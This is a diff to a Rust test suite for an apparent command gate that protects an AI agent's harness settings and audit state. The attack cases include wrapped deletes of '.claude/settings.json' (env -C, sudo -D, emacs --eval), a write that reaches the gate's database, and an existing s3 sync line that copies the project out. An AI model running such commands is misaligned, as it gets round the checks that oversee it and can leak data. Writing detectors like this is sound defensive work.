@@ -261,6 +261,16 @@ fn working_directory_fields_resolve_what_a_tool_names() {
             });
         }
     }
+    // Wrappers that move the command elsewhere: its relative paths resolve there.
+    cases.extend(shell_cases(&[
+        ("env -C .claude rm -f settings.json", true),
+        ("env --chdir=.claude rm -f settings.json", true),
+        ("env -i -C .claude rm -f settings.json", true),
+        ("sudo -D .claude rm -f settings.json", true),
+        ("sudo --chdir .claude rm -f settings.json", true),
+        ("env -C src rm -f settings.json", false),
+        ("sudo -D src ls", false),
+    ]));
     check(&world, "workdir", &cases);
 }
 
@@ -633,6 +643,8 @@ fn the_audit_key_is_read_through_patterns_parents_and_archives() {
         format!("aws s3 sync {root} s3://bucket/x"),
         format!("mytool {state}"),
         format!("sync-tool --dest={state}/gate.db"),
+        format!("sync-tool --files=README.md,{state}/gate.db"),
+        "emacs --batch --eval '(delete-file \".claude/settings.json\")'".to_string(),
     ] {
         lines.push((attack, true));
     }
@@ -646,6 +658,7 @@ fn the_audit_key_is_read_through_patterns_parents_and_archives() {
         "cp -r src /tmp/s".to_string(),
         "grep -r TODO src".to_string(),
         "mytool src/main.rs".to_string(),
+        "emacs --batch --eval '(byte-compile-file \"src/x.el\")'".to_string(),
         format!("cat {root}/proj/src/*"),
     ] {
         lines.push((twin, false));
